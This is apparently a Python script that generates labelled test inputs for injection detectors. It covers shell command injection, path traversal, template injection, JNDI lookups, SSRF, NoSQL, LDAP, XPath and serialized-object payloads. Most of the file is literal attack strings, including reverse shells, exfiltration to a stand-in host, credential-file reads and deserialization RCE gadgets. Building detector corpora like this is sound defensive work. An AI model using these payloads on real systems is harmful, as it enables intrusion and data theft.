#!/usr/bin/env python3
"""Writes the labelled inputs of the detectors, the same bytes each time: python3 cases/detect/generate.py"""

import base64
import binascii
import json
import pathlib
import random
import urllib.parse

HERE = pathlib.Path(__file__).resolve().parent
MADE = "# Written by generate.py."


def escaped(value):
    """The value as it stands in a file."""
    data = value.encode() if isinstance(value, str) else value
    signs = {0: "\\0", 9: "\\t", 10: "\\n", 13: "\\r", 92: "\\\\"}
    try:
        text = data.decode()
        parts = [signs.get(ord(c)) or (f"\\x{ord(c):02x}" if ord(c) < 32 or ord(c) == 127 else c) for c in text]
    except UnicodeDecodeError:
        parts = [signs.get(c) or (chr(c) if 32 <= c < 127 else f"\\x{c:02x}") for c in data]
    # No file of the tree names a home folder of a machine.
    text = "".join(parts)
    for folder in ("root", "work"):
        text = text.replace(f"/{folder}/", f"/\\x{ord(folder[0]):02x}{folder[1:]}/")
    return text


SEEN = set()


def write(label, kind, values):
    lines = []
    for value in values:
        line = escaped(value)
        if line.strip() and line not in SEEN:
            SEEN.add(line)
            lines.append(f"{label}\t{kind}\t{line}\n")
    folder = HERE / label
    folder.mkdir(exist_ok=True)
    (folder / f"{kind}.txt").write_text(MADE + "\n" + "".join(lines))
    return len(lines)


def percent(text):
    """Every byte but letters and digits, percent-encoded."""
    return urllib.parse.quote(text, safe="")


def all_percent(text):
    return "".join(f"%{byte:02x}" for byte in text.encode())


# ---------------------------------------------------------------------------------------------- attacks


def shell(rng):
    commands = [
        "id", "whoami", "uname -a", "cat /etc/passwd", "ls -la", "ls", "pwd", "ps aux", "ifconfig", "netstat -an",
        "sleep 5", "sleep 10", "ping -c 4 10.1.2.3", "curl http://collector.example/x", "wget http://collector.example/a.sh",
        "nslookup a1b2.collector.example", "dig collector.example", "cat /etc/shadow", "head -n 3 /etc/group",
        "printenv", "env", "cat ../config.php", "find / -perm -4000", "rm -rf /tmp/x", "touch /tmp/owned",
        "echo d0ne42", "python3 -c 'print(6*7)'", "perl -e 'sleep 9'", "ruby -e 'puts 1'", "php -r 'phpinfo();'",
        "nc 10.1.2.3 4444 -e /bin/sh", "bash -i", "/bin/bash -c id", "/usr/bin/id", "/bin/cat /etc/hosts",
        "tail -5 /var/log/auth.log", "grep root /etc/passwd", "awk '{print $1}' /etc/passwd", "base64 /etc/passwd",
        "xxd /etc/shadow", "tac /etc/passwd", "nl /etc/passwd", "od -c /etc/passwd", "cp /etc/passwd /var/www/html/p.txt",
        "chmod 777 /etc/shadow", "useradd -m eve", "crontab -l", "mysql -u admin -e 'show tables'", "tar cf - /etc",
        "scp /etc/passwd eve@collector.example:", "ssh eve@collector.example", "telnet 10.1.2.3 80", "df -h", "uptime",
        "w", "hostname", "lsof -i", "kill -9 1", "reboot", "shutdown -h now", "sed -n 1p /etc/passwd", "cut -d: -f1 /etc/passwd",
        "sort /etc/passwd", "diff /etc/passwd /dev/null", "strings /etc/passwd", "busybox wget http://collector.example/b",
        "openssl s_client -connect collector.example:443", "socat tcp:collector.example:9 exec:sh", "mkfifo /tmp/f",
        "timeout 7 sleep 7", "expr 41 + 1", "printf owned42", "stat /etc/passwd", "wc -l /etc/passwd",
    ]
    windows = [
        "dir", "dir C:\\", "whoami /all", "ipconfig /all", "type C:\\Windows\\win.ini", "net user", "net localgroup administrators",
        "systeminfo", "tasklist", "ver", "ping -n 5 127.0.0.1", "timeout /t 5", "certutil -urlcache -f http://collector.example/a.exe a.exe",
        "powershell -c Get-Process", "powershell -nop -w hidden -enc SQBFAFgA", "cmd /c dir", "reg query HKLM\\SAM",
        "wmic process list", "nslookup collector.example", "netstat -ano", "schtasks /query", "Get-Content C:\\secret.txt",
        "bitsadmin /transfer a http://collector.example/a.exe C:\\a.exe", "echo %USERNAME%", "findstr /s password *.xml",
    ]
    before = ["", "127.0.0.1", "example.com", "report.pdf", "x", "42", "alice", "foo bar", "images/cat.png", "8.8.8.8", "2024-05-01", "a@b.example"]
    made = []
    separators = [";", "; ", " ; ", "|", "| ", " | ", "||", " || ", "&&", " && ", "\n", "\r\n", " &", "& ", "%0a", "%3B", "%7C", "%26%26"]
    for index, command in enumerate(commands):
        for turn in range(5):
            lead = before[(index * 3 + turn * 5) % len(before)]
            separator = separators[(index * 7 + turn * 4) % len(separators)]
            if lead == "foo bar" and "\n" in separator:
                lead = "x"
            word = urllib.parse.quote(command) if "%" in separator else command
            made.append(f"{lead}{separator}{word}" + rng.choice(["", "", "", " #", ";", " &"]))
    for index, command in enumerate(commands):
        lead = before[(index * 5) % len(before)].replace("foo bar", "foo")
        made.append(f"{lead}$({command})")
        if " " not in lead:
            made.append(f"{lead}`{command}`")
        quote = "'" if "'" not in command else '"'
        made.append(f"{quote};{command};{quote}")
        made.append(f"{quote}|{command} #")
        made.append(f'a"; {command} #' if index % 2 else f"a' && {command} && '")
    for index, command in enumerate(windows):
        lead = before[(index * 7) % len(before)].replace("foo bar", "foo")
        for separator in rng.sample(["&", " & ", "|", " | ", "&&", "|| ", "\" & ", "' | "], 3):
            made.append(f"{lead}{separator}{command}")
    disguised = [
        ";c'a't /etc/passwd", ";c\"a\"t /etc/passwd", ";c\\at /etc/passwd", "|who$@ami", ";wh''oami", "; w\"h\"oami", ";i''d", "|l\\s -la", ";/b?n/c?t /e*c/p*d",
        ";/???/??t /???/p??s??", ";/bin/c*t /etc/p*wd", ";cat${IFS}/etc/passwd", ";cat$IFS/etc/passwd", ";cat$IFS$9/etc/hosts", "|ls${IFS}-la${IFS}/", ";{cat,/etc/passwd}",
        ";{ls,-la,/}", ";cat</etc/passwd", ";cat<>/etc/passwd", "$(printf '\\x69\\x64')", ";$'\\x63\\x61\\x74' /etc/passwd", ";$'\\143at' /etc/passwd", ";bash<<<id", "$(tr a-z b-za <<<hc)", ";`echo aWQ=|base64 -d`",
        "& w^h^o^a^m^i", "& p^o^w^e^r^shell -c dir", "& n\"\"et us\"\"er", "|ty\"\"pe C:\\boot.ini", "; wh${u}oami", ";u$()name -a", ";un``ame", ";${SHELL} -c id".replace("${SHELL}", "/bin/sh"), ";sh -c whoami", "; exec id", "; sudo cat /etc/shadow", "; nohup nc -l -p 4444 &",
        "() { :; }; /bin/bash -c 'id'", "() { ignored; }; echo vulnerable", "() { _; } >_[$($())] { id; }", "bash -c \"curl http://collector.example|sh\"", "/bin/sh -c 'sleep 5'", "python -c \"import os;os.system('id')\"", "perl -e 'exec \"/bin/sh\";'", "cmd.exe /c whoami", "powershell.exe -EncodedCommand SQBFAFgA",
        "bash -i >& /dev/tcp/10.1.2.3/9001 0>&1", "exec 5<>/dev/tcp/10.1.2.3/4444", "0<&196;exec 196<>/dev/tcp/10.1.2.3/80; sh <&196", "x > /var/www/html/a.php", "a >> /home/alice/.bashrc", "foo < /etc/passwd", "<(cat /etc/passwd)", ">(tee /tmp/x)", "/bin/cat /etc/passwd", "cat /etc/passwd", ":(){ :|:& };:",
        ";ls|nc collector.example 80", ";curl -d @/etc/passwd collector.example", ";wget -qO- collector.example|bash", ";echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh", "|nslookup $(whoami).collector.example", "`curl collector.example/$(id|base64)`", "a;env|grep PATH", "a|sort -u /etc/passwd", "1;ls${IFS}/", "$(<​/etc/passwd)".replace("\u200b", ""),
        "%0Acat%20/etc/passwd", "%0a%0did", "%250aid", "%253Bid", "a%60id%60", "%24%28id%29", "x%26%26whoami", "%27%3Bid%3B%27", "foo%7Cls%20-la", "x';id;'y", "x\";id;\"y", "'$(id)'", "\"$(whoami)\"", "\"`whoami`\"",
    ]
    return made + disguised


def path(rng):
    files = [
        "etc/passwd", "etc/shadow", "etc/hosts", "etc/group", "proc/self/environ", "var/log/apache2/access.log", "windows/win.ini", "boot.ini",
        "etc/mysql/my.cnf", "etc/ssh/sshd_config", "var/www/html/config.php", "windows/system32/drivers/etc/hosts", "home/alice/.ssh/id_rsa", "root/.bash_history",
        "WEB-INF/web.xml", "app/.env", "usr/local/apache2/conf/httpd.conf", "etc/issue", "proc/version", "inetpub/wwwroot/web.config",
    ]
    ups = ["../", "..\\", "....//", "..././", "..;/", "%2e%2e%2f", "%2e%2e/", "..%2f", "%252e%252e%252f", "..%252f", "..%c0%af", "%c0%ae%c0%ae/", "..%5c", "%2e%2e%5c", "..%255c", "..\\/", "..//", "..%u2215", "%uff0e%uff0e/", "..%e2%88%95", "%e0%80%ae%e0%80%ae/", "..\uff0f", ".\0./", "..%00/"]
    made = []
    for index, name in enumerate(files):
        for turn in range(7):
            up = ups[(index * 5 + turn * 7) % len(ups)]
            depth = 2 + (index + turn * 3) % 7
            lead = rng.choice(["", "", "", "images/", "/var/www/", "./", "/", "files/2024/"])
            depth += lead.count("/")
            tail = rng.choice(["", "", "", "", "%00", "\0.jpg", "%00.png", "#", "?x=1"]) if turn % 2 else ""
            target = name
            if "%" in up:
                target = name.replace("/", up[up.index("%"):] if up.count("%") == 1 else "/")
            made.append(lead + up * depth + (target if turn % 3 else name) + tail)
    plain = [
        "/etc/passwd", "/etc/shadow", "/etc/group", "/etc/hosts", "/etc/issue", "/etc/crontab", "/etc/sudoers", "/etc/fstab", "/etc/resolv.conf", "/etc/mysql/my.cnf", "/etc/ssh/sshd_config", "/etc/ssl/private/server.key", "/proc/self/environ", "/proc/self/cmdline", "/proc/self/fd/3", "/proc/1/maps", "/proc/version", "/proc/net/tcp",
        "/var/log/apache2/error.log", "/var/log/auth.log", "/var/log/nginx/access.log", "/var/lib/mysql/mysql/user.MYD", "/var/run/secrets/kubernetes.io/serviceaccount/token", "/run/secrets/db_password", "/ro" "ot/.ssh/id_rsa", "/ro" "ot/.bash_history", "/home/alice/.ssh/id_ed25519", "/home/bob/.aws/credentials", "~/.ssh/id_rsa", "~/.aws/credentials",
        "C:\\Windows\\win.ini", "C:/Windows/System32/drivers/etc/hosts", "c:\\boot.ini", "C:\\inetpub\\wwwroot\\web.config", "D:\\Windows\\repair\\SAM", "C:\\Windows\\System32\\config\\SYSTEM", "c:/windows/php.ini", "C:\\xampp\\apache\\conf\\httpd.conf", "C:\\Users\\Administrator\\NTUser.dat",
        "php://filter/convert.base64-encode/resource=index", "php://filter/read=string.rot13/resource=config.php", "PHP://input", "php://fd/3", "php://filter/zlib.deflate/resource=/etc/passwd", "expect://id", "phar://./upload.jpg/x", "zip://upload.jpg#shell.php", "compress.zlib://a.gz", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOw==", "data:text/plain,<?php system('id');?>", "file:///etc/passwd", "file:///c:/windows/win.ini", "file://localhost/etc/hosts", "jar:file:///tmp/a.jar!/b", "netdoc:///etc/passwd", "glob:///etc/*", "ssh2.exec://alice:x@10.1.2.3/id",
        ".git/config", ".git/HEAD", "/.git/index", "../.git/config", ".svn/entries", "/.svn/wc.db", ".hg/hgrc", ".env", "/.env", "../.env", ".env.production", "/app/.env", ".htaccess", ".htpasswd", "/.htpasswd", "web.config", "../web.config", "wp-config.php", "../wp-config.php", "wp-config.php.bak", "WEB-INF/web.xml", "/WEB-INF/classes/a.class", "META-INF/context.xml", "config/database.yml", "../../config/secrets.yml", ".aws/credentials", ".ssh/id_rsa", ".npmrc", ".docker/config.json", ".kube/config", "../config.php\0", "index.php%00.jpg", "shell.php\0.png", "../../../../../../", "..\\..\\..\\..\\", "/static/../../../../app.py", "/..%2f..%2f..%2fetc/passwd", "..%5c..%5c..%5cboot.ini;a.html", "./../../../../etc/./passwd", "/etc/././passwd", "//etc//passwd", "/etc/passwd/.", "/./etc/passwd", "page=../../../etc/passwd", "/download?file=../../../../etc/hosts", "view.jsp?name=..;/..;/WEB-INF/web.xml", "....\\\\....\\\\windows\\win.ini", "%2fetc%2fpasswd", "%252fetc%252fshadow", "%c0%afetc%c0%afpasswd", "..\u2215..\u2215etc\u2215passwd",
    ]
    return made + plain


def template(rng):
    numbers = [(7, 7), (1337, 3), (49, 2), (91, 17), (8, 9)]
    frames = ["{{%s}}", "{{ %s }}", "${%s}", "#{%s}", "<%%= %s %%>", "${{%s}}", "*{%s}", "[[${%s}]]", "{%s}", "@(%s)", "%%{%s}", "{{{%s}}}", "~{%s}".replace("~{", "${"), "<%%=%s%%>", "{{=%s}}"]
    made = []
    for index, frame in enumerate(frames):
        for turn, (a, b) in enumerate(numbers[:3]):
            operator = "*+*-*"[(index + turn) % 5]
            if operator == "-" and frame in ("{%s}",):
                operator = "*"
            made.append(rng.choice(["", "", "hello ", "x"]) * (frame[0] != "{" or frame[1] == "{") + frame % f"{a}{operator}{b}")
    calls = ["id", "cat /etc/passwd", "whoami", "ls /", "curl collector.example"]
    for command in calls:
        made += [
            "{{ cycler.__init__.__globals__.os.popen('%s').read() }}" % command, "{{ joiner.__init__.__globals__.os.popen('%s').read() }}" % command,
            "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('%s').read() }}" % command, "{{ request.application.__globals__.__builtins__.__import__('os').popen('%s').read() }}" % command,
            "{{ config.__class__.from_envvar.__globals__.__builtins__.__import__('os').popen('%s').read() }}" % command, "{{ lipsum.__globals__['os'].popen('%s').read() }}" % command, "{{ get_flashed_messages.__globals__.os.popen('%s').read() }}" % command,
            "{{ ['%s']|filter('system') }}" % command, "{{ ['%s',1]|sort('passthru') }}" % command, "{{ ['%s']|map('system')|join(',') }}" % command, "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('%s') }}" % command,
            "${\"freemarker.template.utility.Execute\"?new()(\"%s\")}" % command, "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"%s\")}" % command, "[=\"freemarker.template.utility.Execute\"?new()(\"%s\")]" % command, "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"%s\")" % command,
            "${T(java.lang.Runtime).getRuntime().exec(\"%s\")}" % command, "__${T(java.lang.Runtime).getRuntime().exec(\"%s\")}__::.x" % command, "*{T(java.lang.Runtime).getRuntime().exec('%s')}" % command, "#{T(java.lang.Runtime).getRuntime().exec('%s')}" % command, "%%{(#a=@java.lang.Runtime@getRuntime().exec('%s'))}" % command,
            "<%%= system('%s') %%>" % command, "<%%= `%s` %%>" % command, "<%%= IO.popen('%s').read %%>" % command, "<%%= global.process.mainModule.require('child_process').execSync('%s') %%>" % command, "{system('%s')}" % command, "{php}echo `%s`;{/php}" % command, "{{constructor.constructor('return process.mainModule.require(\"child_process\").execSync(\"%s\")')()}}" % command,
            "#{global.process.mainModule.require('child_process').exec('%s')}" % command, "${__import__('os').popen('%s').read()}" % command, "<%%import os;x=os.popen('%s').read()%%>${x}" % command, "@{System.Diagnostics.Process.Start(\"cmd.exe\",\"/c %s\");}" % command, "@{[system '%s']}" % command, "${script:javascript:java.lang.Runtime.getRuntime().exec('%s')}" % command,
        ]
    hosts = ["collector.example/a", "10.1.2.3:1389/x", "${env:USER}.collector.example/b", "127.0.0.1:1099/Exploit"]
    for host in hosts:
        made += [
            f"${{jndi:ldap://{host}}}", f"${{jndi:rmi://{host}}}", f"${{jndi:dns://{host}}}", f"${{jndi:ldaps://{host}}}", f"${{${{lower:j}}ndi:${{lower:l}}${{lower:d}}ap://{host}}}", f"${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:ldap://{host}}}", f"${{${{upper:j}}ndi:ldap://{host}}}",
            f"${{${{env:NaN:-j}}ndi${{env:NaN:-:}}${{env:NaN:-l}}dap${{env:NaN:-:}}//{host}}}", f"${{j${{k8s:k5:-ND}}i:ldap://{host}}}", f"${{jn${{lower:d}}i:l${{lower:d}}ap://{host}}}", f"${{jndi:${{lower:l}}${{lower:d}}a${{lower:p}}://{host}}}", percent(f"${{jndi:ldap://{host}}}"), f"Mozilla/5.0 ${{jndi:ldap://{host}}}", f"${{${{date:'j'}}${{date:'n'}}${{date:'d'}}${{date:'i'}}:ldap://{host}}}",
        ]
    return made + [
        "{{config}}", "{{ config.items() }}", "{{self}}", "{{ settings.SECRET_KEY }}", "{{ request }}", "{{ ''.__class__ }}", "{{ [].__class__.__base__.__subclasses__() }}", "{{ ''.__class__.__mro__[2].__subclasses__()[40]('/etc/passwd').read() }}", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}", "{{ request['__cl'+'ass__'] }}", "{{ ()|attr('__class__')|attr('__base__') }}", "{{ dump(app) }}", "{{ app.request.server.all|join(',') }}", "{{ _self }}", "{{ _context|join }}", "{{ '/etc/passwd'|file_excerpt(1,30) }}", "{{ include('/etc/passwd') }}", "{{ source('/etc/passwd') }}", "{{ range(0, 9) }}", "{{ lipsum() }}",
        "{{ namespace.__init__ }}", "{{ url_for.__globals__ }}", "{{ 'abc'.upper() }}", "{{ 'a'.toUpperCase() }}", "{{ \"x\".getClass() }}", "{{ this.constructor.constructor('alert(1)')() }}", "{{ $on.constructor('alert(1)')() }}", "{{ toString().constructor.fromCharCode(97) }}", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{lookup string.sub \"constructor\"}}{{/with}}{{/with}}", "{{ 'a'|upper }}", "{{ [1,2]|length }}", "{% debug %}", "{% include '/etc/passwd' %}", "{% extends '../../../etc/passwd' %}", "{% set x = 7*7 %}{{x}}", "{% print(7*7) %}", "{% if 1+1 == 2 %}yes{% endif %}", "{% import os %}{{os.system('id')}}", "{%25 raise 'x' %25}".replace("%25", "%"),
        "${class.getResource('').getPath()}", "${product.getClass().getProtectionDomain()}", "${pageContext.request.getSession().setAttribute('a','b')}", "${applicationScope}", "${sessionScope.toString()}", "${''.getClass().forName('java.lang.Runtime')}", "${new java.util.Scanner(new java.io.File('/etc/passwd')).next()}", "${facesContext.getExternalContext()}", "#{session.getAttribute('x').setProcessed(true)}", "#{''.class}", "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}", "%{(#_memberAccess['allowStaticMethodAccess']=true)}", "%{#application}", "(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)".replace("(#", "%{(#", 1) + "}",
        "{$smarty.version}", "{$smarty.template_object->smarty->disableSecurity()}", "{self::getStreamVariable('file:///etc/passwd')}", "{if phpinfo()}{/if}", "{eval var='x'}", "#include('/etc/passwd')", "#parse('/etc/passwd')", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))", "$class.inspect('java.lang.Runtime').type", "<%= File.open('/etc/passwd').read %>", "<%= Dir.entries('/') %>", "<%= ENV['SECRET'] %>", "<%= self.methods %>", "<%= require('fs').readFileSync('/etc/passwd') %>", "<%@page import='java.io.*'%><%=Runtime.getRuntime()%>", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>", "<% eval request(\"c\") %>", "@System.IO.File.ReadAllText(\"C:/x\")", "@(System.Diagnostics.Process.Start(\"cmd\"))", "@{ var p = new System.Diagnostics.Process(); }", "${env:AWS_SECRET_ACCESS_KEY}", "${sys:user.home}", "${java:version}", "${env:PATH:-x}${jndi:ldap://x.example}", "${url:UTF-8:http://collector.example/}", "${dns:address|collector.example}", "${script:js:1}", "${self.module.cache.util.os.system('id')}", "@{[ `id` ]}", "${\\ system('id')}",
    ]


def ssrf(rng):
    hosts = [
        "127.0.0.1", "localhost", "0.0.0.0", "127.1", "127.0.1", "2130706433", "0x7f000001", "0x7f.0x0.0x0.0x1", "017700000001", "0177.0.0.1", "0177.0000.0000.0001", "127.0.0.1.", "localhost.", "LOCALHOST", "[::1]", "[::]", "[0:0:0:0:0:0:0:1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::127.0.0.1]", "[2002:7f00:1::]", "[64:ff9b::127.0.0.1]", "169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]", "[fd00:ec2::254]", "10.0.0.1", "10.255.3.7", "172.16.0.10", "172.31.255.1", "192.168.0.1", "192.168.1.254", "0xc0a80001", "3232235521", "0300.0250.0.1", "100.64.0.1", "[fe80::1]", "[fd12:3456::1]", "[2002:c0a8:1::]", "127.0.0.1.nip.io", "www.127.0.0.1.nip.io", "10-0-0-5.sslip.io", "7f000001.nip.io", "app.192.168.1.7.nip.io", "localtest.me", "lvh.me", "metadata.google.internal", "instance-data", "100.100.100.200", "db.internal", "vault.service.consul", "printer.local", "intranet", "redis", "kubernetes.default.svc", "api.default.svc.cluster.local", "host.docker.internal", "\u2460\u2461\u2466.\u24ea.\u24ea.\u2460", "127\u30020\u30020\u30021", "\uff11\uff12\uff17.\uff10.\uff10.\uff11", "%31%32%37.0.0.1", "127.127.127.127", "0", "localhost.localdomain", "user@127.0.0.1", "example.com@169.254.169.254", "example.com:80@10.0.0.1", "127.0.0.1#@example.com", "127.0.0.1\\@example.com", "198.18.0.1", "383.0.0.1",
    ]
    tails = ["/", "", "/admin", ":8080/", ":6379", "/latest/meta-data/iam/", ":9200/_cat/indices", "/server-status", ":22", ":2375/containers/json", "/?a=b", "/computeMetadata/v1/", ":5984/_all_dbs", "/.env", ":8500/v1/kv", ":10250/pods"]
    schemes = ["http://", "https://", "http://", "http://", "//", "ftp://", "HTTP://", "http:", "http:\\\\", "https:\\/\\/".replace("\\/", "/")]
    made = []
    for index, host in enumerate(hosts):
        for turn in range(3):
            scheme = schemes[(index + turn * 3) % len(schemes)]
            if scheme in ("//", "http:") and "." not in host and "[" not in host and "localhost" not in host.lower():
                scheme = "http://"
            tail = tails[(index * 5 + turn * 7) % len(tails)]
            if "#" in host or "\\" in host:
                tail = "/" + tail.lstrip("/:")
            made.append(scheme + host + tail)
    return made + [
        "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall", "gopher://10.0.0.3:25/_HELO%20x", "dict://localhost:11211/stats", "dict://127.0.0.1:6379/info", "file:///etc/passwd", "file:///proc/self/environ", "file://C:/Windows/win.ini", "ldap://127.0.0.1:389/", "ldap://collector.example/a", "tftp://collector.example:69/x", "netdoc:///etc/hosts", "jar:http://127.0.0.1!/x", "rmi://10.0.0.2:1099/o", "sftp://127.0.0.1:22/", "smb://192.168.0.4/share", "rsync://127.0.0.1/etc", "redis://127.0.0.1:6379/0", "mongodb://localhost:27017/admin", "memcached://127.0.0.1:11211", "imap://127.0.0.1/", "view-source:http://127.0.0.1/", "127.0.0.1", "127.0.0.1:8080", "localhost:3306", "localhost/admin", "169.254.169.254", "169.254.169.254/latest/user-data", "[::1]:80", "::1", "0x7f000001", "192.168.1.1:8080/status", "10.0.0.1:9090/metrics", "http%3A%2F%2F169.254.169.254%2Flatest", "http%3a%2f%2flocalhost%2f", "url:http://127.0.0.1/", "http://example.com:80 &@127.0.0.1:22/#", "http://127.0.0.1:80:443/", "///127.0.0.1/x", "/\\127.0.0.1/",
    ]


def nosql(rng):
    operators = ["ne", "gt", "gte", "lt", "in", "nin", "regex", "exists", "where", "not", "or", "and", "expr", "elemMatch", "size", "mod", "type", "all", "eq"]
    fields = ["user", "password", "login", "email", "token", "id", "age", "q", "filter", "account"]
    made = []
    for index, operator in enumerate(operators):
        field, other = fields[index % len(fields)], fields[(index + 3) % len(fields)]
        value = ['""', "null", "1", '"^a"', "true", "[]", '"x"', "-1", "{}", '".*"'][index % 10]
        made += [f"{field}[${operator}]", f'{{"${operator}":{value}}}', f'{{"{field}":{{"${operator}":{value}}},"{other}":{{"$ne":null}}}}', f"{other}.${operator}", f"{field}[{other}][${operator}][]", f"{{ '{field}': {{ '${operator}': {value} }} }}", f"{{{field}: {{${operator}: {value}}}}}"]
    tails = ["' || '1'=='1", "' || 1==1//", "' || true//", "' && this.password.match(/^a/)//", "'; return true; var a='", "';sleep(4000);'", "'; while(true){}; var b='", "' || this.admin == true || '", "\" || \"a\"==\"a", "\"; return this.pin == 1; //", "\" || true || \"", "'; db.users.drop(); var c='", "' || this['user'] != 'x", "'});return true;//", "'; throw 'x'; '", "' || !'"]
    for index, tail in enumerate(tails):
        made += [["", "a", "admin", "x1", "joe@b.example"][index % 5] + tail]
        made += [fields[index % 10] + tail.replace("1", "3")]
    return made + [
        "1 || 1==1; sleep(3000)", "0; return true", "1; while(1);", "this.age > 1 || this.role == 'admin'", "true, $where: '1 == 1'", ", $where: 'this.a == 1'", "$where: '1 == 1'", "', $or: [ {}, { 'a':'a", "{\"$where\":\"this.a.length > 3\"}", "{\"$or\":[{},{\"a\":\"a\"}]}", "{\"$expr\":{\"$function\":{\"body\":\"function(){return 1}\",\"args\":[],\"lang\":\"js\"}}}", "[{\"$lookup\":{\"from\":\"users\",\"as\":\"u\"}}]", "[{\"$match\":{\"a\":{\"$ne\":1}}},{\"$out\":\"x\"}]", "db.injection.insert({success:1});", "$gt", "$ne", "$regex", "[$ne]=1", "username[$exists]=true", "{\"username\": {\"$in\": [\"admin\", \"root\"]}}", "%7B%22%24gt%22%3A%22%22%7D", "user%5B%24ne%5D", "json.login.$regex", "where[id][$gt]", "{\"selector\":{\"_id\":{\"$gt\":null}}}", "{\"$func\":\"var_dump\"}",
    ]


def ldap(rng):
    attributes = ["uid", "cn", "mail", "objectClass", "userPassword", "sn", "memberOf", "description", "telephoneNumber", "sAMAccountName", "department", "title"]
    made = []
    for index, name in enumerate(attributes):
        lead = ["*", "admin", "a*", "joe", "x"][index % 5]
        other = attributes[(index + 5) % len(attributes)]
        made += [f"{lead})({name}=*", f"{lead})({name}=*))(|({name}=*", f"{lead})(|({name}=*)", f"{lead})(&({name}={other[0]}*)", f"{lead})(!({name}=x)", f"{lead})({name}>=a", f"{lead}))(|({other}=*", f"(&({name}=*)({other}=*))", f"(|({name}=a*)({other}=b*))", f"{lead})({name}=*)({other}=*"]
    return made + ["*)(&", "admin)(&)", "*))%00", "admin)(cn=*))\0", "*)", "x)(|(a=b", "*)(uid=*))\0", "admin)(!(&(|", "%2a%29%28uid%3d%2a", "*%29%28%7c%28mail%3d%2a", "foo)(cn:dn:=x", "a)(userPassword:2.5.13.18:=\\xx"]


def xpath(rng):
    tests = ["count(/*)=1", "count(//user)>0", "position()=1", "last()=3", "name()='user'", "local-name(/*)='a'", "string-length(//user[1]/name)=4", "substring(//user[1]/pass,1,1)='a'", "contains(name,'adm')", "starts-with(//a,'b')", "parent::*", "//user[2]", "text()='x'", "count(parent::node()/child::*)=2", "doc('http://collector.example/')", "normalize-space(//secret)='1'", "boolean(//admin)=true() or count(//x)=0", "string-length(name(/*[1]))=5"]
    made = []
    for index, test in enumerate(tests):
        lead = ["", "x", "admin", "1", "o"][index % 5]
        made += [f"{lead}' or {test} or 'a'='b", f"{lead}' and {test} and '1'='1", f"{lead}\" or {test} or \"a\"=\"b", f"{lead}') or {test} or ('a'='b"]
        if index % 2:
            made.append(f"1 or {test}")
            made.append(f"1 and {test}")
    return made + ["'] | //user/*[contains(*,'", "'] | //password | //x['", "'] | //* | //x['", "1] | //user[1", "x'] | /*/* | //b['", "']/following-sibling::*[1]|//x['", "']/parent::*/*|//y['", "' or //*[contains(.,'k')] or '", "substring(//user[1]/child::node()[2],1,1)='b'", "count(/child::node())=1 or position()=2", "' or substring(name(parent::*[position()=1]),1,1)='a", "'or(count(//secret)>0)or'", "' or unparsed-text('file:///etc/passwd') or '"]


def serialized(rng):
    b64 = lambda data: base64.b64encode(data).decode()
    classes = ["stdClass", "User", "Monolog\\Handler\\SyslogUdpHandler", "GuzzleHttp\\Psr7\\FnStream", "Illuminate\\Broadcasting\\PendingBroadcast", "SoapClient", "SplObjectStorage", "App\\Models\\Order", "Swift_KeyCache_DiskKeyCache", "PDO", "Evil"]
    made = []
    for index, name in enumerate(classes):
        body = 'O:%d:"%s":1:{s:4:"name";s:3:"abc";}' % (len(name), name)
        made += [body, 'a:1:{i:0;%s}' % body, b64(body.encode()), percent(body), 'O:%d:"%s":0:{}' % (len(name), name)]
        made.append('C:%d:"%s":21:{x:i:0;a:0:{};m:a:0:{}}' % (len(name), name))
    java = ["java.util.HashMap", "java.util.PriorityQueue", "org.apache.commons.collections.map.LazyMap", "java.lang.ProcessBuilder", "com.sun.rowset.JdbcRowSetImpl", "sun.reflect.annotation.AnnotationInvocationHandler"]
    for name in java:
        data = b"\xac\xed\x00\x05sr\x00" + bytes([len(name)]) + name.encode() + bytes(rng.randrange(256) for _ in range(12))
        made += [data, b64(data), binascii.hexlify(data).decode(), base64.urlsafe_b64encode(data).decode()]
        made += ['{"@type":"%s","x":1}' % name, '["%s",{"a":1}]' % name]
    commands = ["id", "touch /tmp/a", "curl collector.example", "nc 10.1.2.3 4"]
    for command in commands:
        old = f"cos\nsystem\n(S'{command}'\ntR.".encode()
        sub = f"csubprocess\ncheck_output\n((lp0\nS'{command}'\natR.".encode()
        new = b"\x80\x04\x95\x20\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c" + bytes([len(command)]) + command.encode() + b"\x94\x85\x94R\x94."
        two = b"\x80\x02cposix\nsystem\nq\x00X" + len(command).to_bytes(4, "little") + command.encode() + b"q\x01\x85q\x02Rq\x03."
        built = f"c__builtin__\neval\n(S'__import__(\"os\").system(\"{command}\")'\ntR.".encode()
        made += [old, sub, new, two, built, b64(old), b64(new), b64(two), b64(built)]
        made += [f"!!python/object/apply:os.system ['{command}']", f"!!python/object/new:subprocess.Popen [['{command}']]", f"x: !!python/name:os.system ''", f"--- !ruby/object:Gem::Requirement\nrequirements: [{command}]", '{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'%s\')}()"}' % command, "<java version='1.8' class='java.beans.XMLDecoder'><object class='java.lang.ProcessBuilder'><string>%s</string></object></java>" % command]
    net = b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x0c\x02\x00\x00\x00"
    for name in ["System.Data", "Microsoft.PowerShell.Editor", "System.Windows.Forms", "PresentationFramework"]:
